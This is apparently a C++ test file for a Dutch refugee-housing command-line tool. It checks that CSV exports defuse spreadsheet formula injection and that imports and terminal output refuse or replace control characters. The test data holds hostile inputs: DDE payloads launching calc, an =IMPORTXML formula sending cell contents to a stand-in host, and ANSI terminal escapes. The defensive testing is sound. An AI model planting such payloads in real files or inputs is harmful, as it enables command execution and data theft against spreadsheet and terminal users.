// Hostile input through the command line: formula cells in every CSV written, control
// characters, stray quotes and huge fields in an import, and escapes kept off the terminal.
#include "CliRunner.h"

#include "core/csv/Csv.h"
#include "core/gemeente/Referentiedata.h"
#include "core/huishouden/HuishoudenRepository.h"
#include "core/import/HuishoudenCsv.h"
#include "core/journaal/Journaal.h"
#include "core/koppeling/KoppelingService.h"
#include "core/store/Sql.h"

#include <QDate>
#include <QHash>
#include <QRegularExpression>

using namespace rd;
using namespace rd::test;

namespace {

const QString azcNaam = QStringLiteral("=IMPORTXML(CONCAT(\"http://x.example/?\", A1), \"//a\")");
const QString partnerschapNaam = QStringLiteral("=HYPERLINK(\"http://x.example\",\"x\")");

// A cell a spreadsheet would run: it starts with = + - @ tab or CR and is not a negative number.
bool isFormule(const QString &cel)
{
    static const QString tekens = QStringLiteral("=+-@\t\r");
    if (cel.isEmpty() || !tekens.contains(cel.at(0)))
        return false;
    static const QRegularExpression getal(QStringLiteral("^-[0-9]+([.,][0-9]+)?$"));
    return !getal.match(cel).hasMatch();
}

// The fields of a `;`-delimited report CSV, every table and header line; no cell here runs
// over two lines.
QStringList rapportCellen(const QByteArray &bytes)
{
    QStringList cellen;
    for (const QByteArray &regel : bytes.mid(3).split('\n')) {
        if (regel.trimmed().isEmpty() || regel.startsWith("# "))
            continue;
        // The line as header and as row: the row keeps its fields as written.
        auto tabel = csv::parse(regel + '\n' + regel, QStringLiteral("r"));
        EXPECT_TRUE(tabel.ok()) << regel.toStdString();
        if (tabel.ok() && !tabel->rows.isEmpty())
            cellen << tabel->rows.first().fields;
    }
    return cellen;
}

class CliInvoer : public CliTest
{
protected:
    // Two households whose names, interview and AZC start like formulas; the first coupled to
    // a partnership named like a formula, the second coupled and uncoupled with formula reasons.
    void vijandigeStore() const
    {
        auto store = openStore(db());
        ASSERT_TRUE(store);
        Referentiedata ref(*store);
        auto azc = ref.voegAzcToe(azcNaam, QStringLiteral("GM0363"));
        ASSERT_TRUE(azc.ok()) << azc.error().toString().toStdString();
        auto partnerschap = ref.voegPartnerschapToe(partnerschapNaam, QStringLiteral("GM0344"),
                                                    {QStringLiteral("GM0307")});
        ASSERT_TRUE(partnerschap.ok()) << partnerschap.error().toString().toStdString();

        Huishouden a = voorbeeldHuishouden(2000000001, 2, QDate(2026, 8, 1), *azc);
        a.personen[0].voornamen = QStringLiteral("=cmd|' /C calc'!A0");
        a.personen[0].achternaam = QStringLiteral("+1+1");
        a.personen[0].werkervaring = QStringLiteral("\t=1");
        a.personen[1].voornamen = QStringLiteral("@SUM(A1)");
        a.personen[1].achternaam = QStringLiteral("-12");
        Huisvestinggesprek g;
        g.datum = QDate(2026, 8, 3);
        g.woonbehoefte = QStringLiteral("-2+3\nground floor");
        g.werkwens = QStringLiteral("'=1");
        a.gesprek = g;
        const qint64 idA = voegToe(*store, a);
        Huishouden b = voorbeeldHuishouden(3000000001, 1, QDate(2026, 8, 1), *azc);
        b.personen[0].voornamen = QStringLiteral("-2+3");
        const qint64 idB = voegToe(*store, b);
        ASSERT_TRUE(idA > 0 && idB > 0);

        KoppelingService koppeling(*store);
        const QDate vandaag(2026, 11, 29);
        ASSERT_TRUE(koppeling.koppelPartnerschap(idA, *partnerschap, QDate(2026, 9, 1),
                                                 QStringLiteral("+cmd|' /C calc'!A0"), vandaag));
        ASSERT_TRUE(koppeling.koppel(idB, QStringLiteral("GM0344"), QDate(2026, 9, 1),
                                     QStringLiteral("@cmd|' /C calc'!A0"), vandaag));
        ASSERT_TRUE(koppeling.ontkoppel(idB, QDate(2026, 9, 10), QStringLiteral("=1+2"), vandaag));
    }

    // import-households of `bytes` into a fresh store: exit 1, nothing stored, and stderr
    // naming `waar` without a control character.
    void verwachtWeigering(const QByteArray &bytes, const QString &waar) const
    {
        const QString file = path(QStringLiteral("in.csv"));
        writeFile(file, bytes);
        const QByteArray voor = fileBytes(db());
        const auto run = cli({QStringLiteral("import-households"), file});
        EXPECT_EQ(run.exitCode, 1) << run.out.toStdString();
        EXPECT_TRUE(run.err.contains(waar)) << run.err.toStdString();
        for (const QChar c : run.err)
            EXPECT_TRUE(c == QLatin1Char('\n') || c.unicode() >= 0x20) << int(c.unicode());
        EXPECT_EQ(fileBytes(db()), voor);
    }

    // The header and one valid person on line 2 with `kolom` set to `waarde`.
    static QByteArray eenPersoon(const char *kolom, const QString &waarde)
    {
        static const QHash<QString, QString> basis{
            {QStringLiteral("huishouden"), QStringLiteral("1000000001")},
            {QStringLiteral("v_nummer"), QStringLiteral("1000000001")},
            {QStringLiteral("referent"), QStringLiteral("1")},
            {QStringLiteral("voornamen"), QStringLiteral("Amina")},
            {QStringLiteral("achternaam"), QStringLiteral("Tesfay")},
            {QStringLiteral("geboortedatum"), QStringLiteral("1990-05-17")},
            {QStringLiteral("geslacht"), QStringLiteral("V")},
            {QStringLiteral("vergunning_datum"), QStringLiteral("2026-03-01")}};
        QStringList rij;
        for (const QString &k : huishoudenCsvKolommen())
            rij << (k == QLatin1String(kolom) ? waarde : basis.value(k));
        return (csv::line(huishoudenCsvKolommen()) + QLatin1Char('\n') + csv::line(rij) +
                QLatin1Char('\n'))
            .toUtf8();
    }
};

} // namespace

TEST_F(CliInvoer, ExportHouseholdsWritesFormulaCellsAsTextAndRoundTripsRowForRow)
{
    vijandigeStore();
    const QString eerste = path(QStringLiteral("eerste.csv"));
    const auto run = cli({QStringLiteral("export-households"), eerste});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    const QByteArray bytes = fileBytes(eerste);
    for (const char *verwacht :
         {",'=cmd|' /C calc'!A0,", ",'+1+1,", ",'\t=1,", ",'@SUM(A1),", ",-12,",
          "\"'-2+3\nground floor\"", ",''=1,", ",'-2+3,", "\"'=IMPORTXML("})
        EXPECT_TRUE(bytes.contains(verwacht)) << verwacht;
    auto tabel = csv::parse(journaal::zonderCsvKop(bytes), eerste);
    ASSERT_TRUE(tabel.ok()) << tabel.error().toString().toStdString();
    for (const auto &rij : tabel->rows)
        for (const QString &cel : rij.fields)
            EXPECT_FALSE(isFormule(cel)) << cel.toStdString();

    // Into a fresh store that knows the AZC, and out again: the same bytes.
    const QString ander = path(QStringLiteral("ander.sqlite"));
    {
        auto store = openStore(ander);
        ASSERT_TRUE(store);
        ASSERT_TRUE(Referentiedata(*store).voegAzcToe(azcNaam, QStringLiteral("GM0363")).ok());
    }
    const auto import = cli({QStringLiteral("import-households"), eerste}, ander);
    ASSERT_EQ(import.exitCode, 0) << import.err.toStdString();
    EXPECT_TRUE(import.out.startsWith(QStringLiteral("2 households imported")));
    const QString tweede = path(QStringLiteral("tweede.csv"));
    ASSERT_EQ(cli({QStringLiteral("export-households"), tweede}, ander).exitCode, 0);
    // The same rows; the last line is each store's log head, and the import added an entry.
    EXPECT_EQ(journaal::zonderCsvKop(fileBytes(tweede)), journaal::zonderCsvKop(bytes));
    EXPECT_TRUE(fileBytes(tweede).endsWith("\n"));
    EXPECT_TRUE(fileBytes(tweede).contains("\n# journaal,1,"));

    auto store = Store::open(ander);
    ASSERT_TRUE(store.ok());
    auto alle = HuishoudenRepository(**store).alle();
    ASSERT_TRUE(alle.ok() && alle->size() == 2);
    EXPECT_EQ(alle->at(0).personen.at(0).voornamen, QStringLiteral("=cmd|' /C calc'!A0"));
    EXPECT_EQ(alle->at(0).personen.at(0).werkervaring, QStringLiteral("\t=1"));
    EXPECT_EQ(alle->at(0).gesprek->werkwens, QStringLiteral("'=1"));
    EXPECT_EQ(alle->at(1).personen.at(0).voornamen, QStringLiteral("-2+3"));
}

TEST_F(CliInvoer, CasesCsvWritesFormulaCellsAsText)
{
    vijandigeStore();
    const auto rows = casesCsv();
    ASSERT_EQ(rows.size(), 3) << "the header and the two households";
    const int naam = columnOf(rows.first(), QStringLiteral("naam"));
    const int azc = columnOf(rows.first(), QStringLiteral("azc"));
    QStringList namen;
    for (const auto &row : rows.mid(1)) {
        namen << row.value(naam);
        EXPECT_EQ(row.value(azc), QLatin1Char('\'') + azcNaam);
        for (const QString &cel : row)
            EXPECT_FALSE(isFormule(cel)) << cel.toStdString();
    }
    EXPECT_TRUE(namen.contains(QStringLiteral("'=cmd|' /C calc'!A0 +1+1")))
        << namen.join(QLatin1Char('/')).toStdString();
    EXPECT_TRUE(namen.contains(QStringLiteral("'-2+3 Testperson")));
}

TEST_F(CliInvoer, ReportCsvWritesFormulaCellsAsText)
{
    vijandigeStore();
    const QString file = path(QStringLiteral("r.csv"));
    const auto run =
        cli({QStringLiteral("report"), QStringLiteral("per-gemeente"), QStringLiteral("--period"),
             QStringLiteral("2026-H2"), QStringLiteral("--format"), QStringLiteral("csv"),
             QStringLiteral("--out"), file});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    const QByteArray bytes = fileBytes(file);
    EXPECT_TRUE(bytes.contains(";'=1+2;")) << "the uncoupling reason: " << bytes.toStdString();
    EXPECT_TRUE(bytes.contains(";\"'=HYPERLINK(")) << "the partnership: " << bytes.toStdString();
    const QStringList cellen = rapportCellen(bytes);
    EXPECT_GT(cellen.size(), 20);
    for (const QString &cel : cellen)
        EXPECT_FALSE(isFormule(cel)) << cel.toStdString();
}

TEST_F(CliInvoer, ImportRefusesAControlCharacterNamingLineAndColumn)
{
    init();
    verwachtWeigering(eenPersoon("voornamen", QStringLiteral("Ami\x1b[2Jna")),
                      QStringLiteral("line 2, voornamen"));
    verwachtWeigering(eenPersoon("werkervaring", QStringLiteral("nurse\x07")),
                      QStringLiteral("line 2, werkervaring"));
    // The message quotes the bad date; the escape in it does not reach the terminal.
    verwachtWeigering(eenPersoon("geboortedatum", QStringLiteral("1990-05-1\x1b]0;x\x07")),
                      QStringLiteral("line 2, geboortedatum"));
}

TEST_F(CliInvoer, ImportRefusesAStrayQuoteOrTextAfterAClosingQuoteNamingLineAndColumn)
{
    init();
    QByteArray stray = eenPersoon("voornamen", QStringLiteral("Amina"));
    stray.replace(",Tesfay,", ",Tes\"fay,");
    verwachtWeigering(stray, QStringLiteral("line 2, column 5"));
    QByteArray na = eenPersoon("voornamen", QStringLiteral("Amina"));
    na.replace(",Amina,", ",\"Am\"ina,");
    verwachtWeigering(na, QStringLiteral("line 2, column 4"));
}

TEST_F(CliInvoer, ImportRefusesAFieldLongerThanTheLimitNamingLineAndColumn)
{
    init();
    verwachtWeigering(eenPersoon("werkervaring", QString(csv::maxVeldLengte + 1, QLatin1Char('w'))),
                      QStringLiteral("line 2, column 12"));
    verwachtWeigering(eenPersoon("achternaam", QString(300, QLatin1Char('a'))),
                      QStringLiteral("line 2, achternaam"));
}

TEST_F(CliInvoer, CasesTableShowsControlCharactersFromAnOldStoreAsReplacementCharacters)
{
    {
        auto store = openStore(db());
        ASSERT_TRUE(store);
        auto azc = Referentiedata(*store).voegAzcToe(QStringLiteral("AZC \x1b]0;title\x07X"),
                                                     QStringLiteral("GM0363"));
        ASSERT_TRUE(azc.ok());
        ASSERT_GT(voegToe(*store, voorbeeldHuishouden(2000000001, 1, QDate(2026, 11, 1), *azc)), 0);
        // Written before control characters were refused.
        auto q = sql::run(store->database(),
                          QStringLiteral("UPDATE persoon SET voornamen = ? WHERE v_nummer = ?"),
                          {QStringLiteral("Ami\x1b[2J\tna\r\n"), QStringLiteral("2000000001")});
        ASSERT_TRUE(q.ok()) << q.error().toString().toStdString();
    }
    const auto run = cli({QStringLiteral("cases")});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    for (const QChar c : run.out)
        EXPECT_TRUE(c == QLatin1Char('\n') || c.unicode() >= 0x20) << int(c.unicode());
    EXPECT_TRUE(run.out.contains(QString::fromUtf16(u"Ami\uFFFD[2J\uFFFDna\uFFFD\uFFFD")))
        << run.out.toStdString();
    EXPECT_EQ(run.outLines().size(), 5) << "header, rule, one row, rule, totals";
}

TEST_F(CliInvoer, ReasonsWithAControlCharacterAreRefused)
{
    {
        auto store = openStore(db());
        ASSERT_TRUE(store);
        // At an AZC in Groningen: Amsterdam lies outside its region, a blocking check.
        ASSERT_GT(voegToe(*store, voorbeeldHuishouden(2000000001, 1, QDate(2026, 11, 1),
                                                      azcIn(*store, QStringLiteral("GM0014")))),
                  0);
    }
    const QString slecht = QStringLiteral("werk\x1b[2J");
    const QByteArray voor = fileBytes(db());
    const auto couple = cli({QStringLiteral("couple"), QStringLiteral("2000000001"),
                             QStringLiteral("GM0014"), QStringLiteral("--reason"), slecht});
    EXPECT_EQ(couple.exitCode, 1);
    EXPECT_TRUE(couple.err.contains(QStringLiteral("reason"))) << couple.err.toStdString();
    EXPECT_FALSE(couple.err.contains(QChar(0x1b)));
    const auto override =
        cli({QStringLiteral("couple"), QStringLiteral("2000000001"), QStringLiteral("GM0363"),
             QStringLiteral("--reason"), QStringLiteral("werk"),
             QStringLiteral("--override-reason"), slecht});
    EXPECT_EQ(override.exitCode, 1);
    EXPECT_TRUE(override.err.contains(QStringLiteral("override reason")))
        << override.err.toStdString();
    const auto herverdeling =
        cli({QStringLiteral("herverdeling"), QStringLiteral("2027-H1"), QStringLiteral("GM0014=+5"),
             QStringLiteral("GM0034=-5"), QStringLiteral("--reason"), slecht});
    EXPECT_EQ(herverdeling.exitCode, 1);
    EXPECT_TRUE(herverdeling.err.contains(QStringLiteral("reason")))
        << herverdeling.err.toStdString();
    EXPECT_EQ(fileBytes(db()), voor);

    ASSERT_EQ(cli({QStringLiteral("couple"), QStringLiteral("2000000001"), QStringLiteral("GM0014"),
                   QStringLiteral("--reason"), QStringLiteral("werk")})
                  .exitCode,
              0);
    const auto uncouple = cli({QStringLiteral("uncouple"), QStringLiteral("2000000001"),
                               QStringLiteral("--reason"), slecht});
    EXPECT_EQ(uncouple.exitCode, 1);
    EXPECT_TRUE(uncouple.err.contains(QStringLiteral("reason"))) << uncouple.err.toStdString();
}
